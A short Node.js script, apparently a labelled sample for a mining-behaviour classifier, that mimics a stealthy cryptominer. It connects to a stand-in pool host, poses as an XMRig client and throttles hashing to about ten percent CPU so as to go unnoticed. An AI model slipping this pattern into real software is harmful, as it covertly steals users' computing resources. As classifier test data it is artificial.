// class: mining; possible: low medium
// ten percent of the time, all day long
const net = require('net'); const { createHash } = require('crypto');
const c = net.connect({ host: 'pool.coin.test', port: 3334 });
let n = 0, rig = null;
c.write(JSON.stringify({ id: 1, jsonrpc: '2.0', method: 'login', params: { login: '47c', pass: 'x', agent: 'XMRig/6.20.0 (Linux x86_64)', algo: ['rx/0', 'cn/r'] } }) + '\n');
c.once('data', d => {
  const { result } = JSON.parse(d.toString().split('\n')[0]);
  rig = result.id;
  setInterval(() => {
    const t = Date.now(); let best = null;
    while (Date.now() - t < 150) {
      const h = createHash('sha512').update(result.job.blob + n++).digest('hex');
      if (h.endsWith('000')) best = h;
    }
    if (best) c.write(JSON.stringify({ id: n, jsonrpc: '2.0', method: 'submit', params: { id: rig, job_id: result.job.job_id, nonce: n.toString(16), result: best } }) + '\n');
  }, 1350);
});
setTimeout(() => process.exit(), 62000);
